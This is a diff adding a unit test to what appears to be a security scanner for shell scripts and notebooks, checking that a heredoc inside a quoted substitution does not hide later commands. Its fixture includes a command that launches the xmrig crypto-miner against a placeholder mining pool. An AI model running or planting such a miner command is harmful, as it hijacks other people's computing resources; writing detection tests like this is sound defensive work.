@@ -254,6 +254,22 @@ def test_quoted_argument_spanning_lines(engine):
     assert {e.line for e in ev} == {1, 3}, "the python3 -c line, and the line of the file where os.system stands"
 
 
+def test_a_heredoc_inside_a_quoted_substitution_does_not_swallow_the_rest(engine):
+    # X="$(python - <<'PY' ... PY)": the body's own quotes must not leave the line "open"
+    # and hide every later command (before, the rest of the file became one argument)
+    script = (
+        'DIRS="$(\n'
+        "  python - <<'PY' || true\n"
+        'print("it\'s one")\n'
+        "PY\n"
+        ')"\n'
+        "./xmrig -o stratum+tcp://pool.example.net:3333 -u w -p x\n"
+    )
+    r = engine.scan_bytes(script.encode(), "start.sh")
+    assert "NBW201" in {f.rule_id for f in r.findings}
+    assert {e.line for f in r.findings if f.rule_id == "NBW201" for e in f.evidence} == {6}
+
+
 def test_colab_form_options_are_values_the_code_can_receive():
     from nbwarden.engine.extract import Collector
     from nbwarden.engine.model import PYTHON, Unit
